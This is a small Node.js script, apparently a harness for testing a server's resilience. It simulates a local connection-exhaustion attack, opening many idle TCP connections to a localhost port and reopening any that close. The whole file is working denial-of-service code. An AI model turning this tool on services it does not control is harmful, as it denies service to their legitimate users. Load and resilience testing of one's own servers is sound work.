// An unprivileged local user's attack on a TCP port: open COUNT connections and keep them open
// without a word; reconnect whichever is closed. Prints "opened N" as connections are made.
// Usage: node idle-clients.mjs PORT COUNT
import { connect } from "node:net";
import { setInterval, setTimeout } from "node:timers";

const [port, count] = process.argv.slice(2).map(Number);
let opened = 0;
let live = 0;
const open = () => {
  const socket = connect({ port, host: "127.0.0.1" });
  socket.on("connect", () => {
    opened++;
    live++;
    if (opened % 1000 === 0) process.stdout.write(`opened ${opened} live ${live}\n`);
  });
  socket.on("error", () => undefined);
  socket.on("close", (hadError) => {
    live = Math.max(0, live - 1);
    // Back again, a little later: the slot is what the attacker wants.
    setTimeout(open, hadError ? 200 : 100);
  });
};
for (let i = 0; i < count; i++) {
  if (i % 500 === 0) await new Promise((resolve) => setTimeout(resolve, 10));
  open();
}
process.stdout.on("error", () => process.exit(0));
setInterval(() => process.stdout.write(`opened ${opened} live ${live}\n`), 1000);
